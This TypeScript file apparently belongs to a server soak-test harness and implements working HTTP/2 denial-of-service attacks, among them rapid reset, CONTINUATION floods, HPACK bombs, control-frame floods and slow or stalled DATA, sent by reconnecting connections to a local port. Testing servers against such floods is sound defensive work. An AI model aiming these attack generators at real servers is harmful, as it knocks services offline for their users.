/**
 * Attackers that speak HTTP/2, in a process of their own at the lowest priority, as `attack.ts` has it: one kind at a
 * time, by a handful of connections that say what the kind says as fast as the server takes it, and come back when they
 * are cut.
 */
import { fork } from "node:child_process";
import { once } from "node:events";
import { connect as connectSocket, type Socket } from "node:net";
import { constants, setPriority } from "node:os";
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  INITIAL_WINDOW_SIZE,
  literal,
  PING,
  PREFACE,
  PRIORITY,
  RST_STREAM,
  requestBlock,
  SETTINGS,
  setting,
  uint32,
  WINDOW_UPDATE,
} from "./http2-frames.ts";

const CONNECTIONS = 8;
/** Frames that are written at a time. */
const BATCH = 100;
/** Who is cut comes back after so many milliseconds. */
const BACK_MS = 20;

interface Kind {
  /** Its SETTINGS. */
  readonly settings?: Buffer;
  /** Said once, before anything else. */
  readonly first?: () => Buffer;
  /** Said again and again; `id()` is a stream that was not used before. Without: it says no more, and reads nothing. */
  readonly again?: (id: () => number) => Buffer;
}

const many = (one: () => Buffer): Buffer => Buffer.concat(Array.from({ length: BATCH }, one));
const ask = (id: number, path: string): Buffer => frame(HEADERS, END_HEADERS | END_STREAM, id, requestBlock(path));
const junk = Buffer.concat(Array.from({ length: 40 }, (_, i) => literal(`x-${i}`, "y".repeat(200))));
const large = literal("x-large", "y".repeat(3900), true);

export const attacks: Readonly<Record<string, Kind>> = {
  "rapid reset": {
    again: (id) =>
      many(() => {
        const stream = id();
        return Buffer.concat([ask(stream, "/slow?ms=1000"), frame(RST_STREAM, 0, stream, uint32(8))]);
      }),
  },
  "resets by what is wrong": {
    again: (id) =>
      many(() => {
        const stream = id();
        return Buffer.concat([ask(stream, "/slow?ms=1000"), frame(WINDOW_UPDATE, 0, stream, uint32(0))]);
      }),
  },
  "CONTINUATION without end": {
    again: (id) =>
      Buffer.concat([frame(HEADERS, END_STREAM, id(), junk), ...new Array<Buffer>(30).fill(frame(CONTINUATION, 0, 1, junk))]), // biome-ignore format: one line
  },
  "HPACK bombs": {
    // One entry that is kept, and then a block of nothing but references to it (index 62).
    first: () => frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([requestBlock("/hello"), large])),
    again: (id) => many(() => frame(HEADERS, END_HEADERS | END_STREAM, id(), Buffer.concat([requestBlock("/hello"), Buffer.alloc(4000, 0xbe)]))), // biome-ignore format: one line
  },
  "lists beyond the cap": {
    again: (id) => many(() => frame(HEADERS, END_HEADERS | END_STREAM, id(), Buffer.concat([requestBlock("/hello"), junk, junk.subarray(0, 6000)]))), // biome-ignore format: one line
  },
  SETTINGS: { again: () => many(() => frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535))) },
  PING: { again: () => many(() => frame(PING, 0, 0, Buffer.alloc(8))) },
  WINDOW_UPDATE: { again: () => many(() => frame(WINDOW_UPDATE, 0, 0, uint32(1))) },
  "priority churn": {
    first: () => ask(1, "/slow?ms=5000"),
    again: () => many(() => frame(PRIORITY, 0, 1, Buffer.concat([uint32(3), Buffer.from([1])]))),
  },
  "DATA byte by byte": {
    first: () => frame(HEADERS, END_HEADERS, 1, requestBlock("/hash", "POST")),
    again: () => many(() => frame(DATA, 0, 1, Buffer.from("x"))),
  },
  "DATA of nothing": {
    first: () => frame(HEADERS, END_HEADERS, 1, requestBlock("/hash", "POST")),
    again: () => many(() => frame(DATA, 0, 1)),
  },
  "windows of nothing": {
    settings: setting(INITIAL_WINDOW_SIZE, 0),
    first: () => Buffer.concat(Array.from({ length: 100 }, (_, i) => ask(2 * i + 1, "/bytes?size=50000"))),
  },
  "answers that nobody reads": {
    settings: setting(INITIAL_WINDOW_SIZE, 2 ** 31 - 1),
    first: () => Buffer.concat([frame(WINDOW_UPDATE, 0, 0, uint32(2 ** 31 - 65_536)), ...Array.from({ length: 100 }, (_, i) => ask(2 * i + 1, "/stream?size=50000"))]), // biome-ignore format: one line
  },
  "requests, as many as go": { again: (id) => many(() => ask(id(), "/hello")) },
};

/** An attack, as the soak holds it: from `start` until `stop`. */
export class Http2Attack {
  readonly #child: ReturnType<typeof fork>;
  /** How often the server has cut a connection of it. */
  cuts = 0;
  /** Bytes that were said. */
  said = 0;

  private constructor(port: number, kind: string) {
    this.#child = fork(new URL(import.meta.url), [String(port), kind], {
      stdio: ["ignore", "inherit", "inherit", "ipc"],
    });
    this.#child.on("message", ({ cuts, said }: { cuts: number; said: number }) => {
      this.cuts = cuts;
      this.said = said;
    });
  }

  /** Resolves when it has begun. */
  static async start(port: number, kind: string): Promise<Http2Attack> {
    const attack = new Http2Attack(port, kind);
    while (attack.said === 0) await once(attack.#child, "message");
    return attack;
  }

  async stop(): Promise<void> {
    const gone = once(this.#child, "exit");
    this.#child.kill("SIGKILL");
    await gone;
  }
}

if (import.meta.main && process.send !== undefined) {
  setPriority(constants.priority.PRIORITY_LOW);
  const port = Number(process.argv[2]);
  const kind = attacks[process.argv[3]];
  let cuts = 0;
  let said = 0;
  const begin = (): void => {
    const socket: Socket = connectSocket({ port, host: "127.0.0.1", noDelay: true });
    let stream = kind.first === undefined ? -1 : 1;
    const id = (): number => (stream += 2);
    const say = (): void => {
      if (kind.again === undefined || !socket.writable) return;
      const bytes = kind.again(id);
      said += bytes.length;
      if (socket.write(bytes)) setImmediate(say);
      else socket.once("drain", say);
    };
    socket.on("connect", () => {
      const first = Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, kind.settings), kind.first?.() ?? Buffer.alloc(0)]); // biome-ignore format: one line
      said += first.length;
      socket.write(first);
      say();
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      cuts++;
      setTimeout(begin, BACK_MS);
    });
    // Who asks once and no more does not read either.
    if (kind.again !== undefined) socket.resume();
  };
  for (let i = 0; i < CONNECTIONS; i++) begin();
  setInterval(() => process.send?.({ cuts, said }), 50);
  process.on("disconnect", () => process.exit());
}
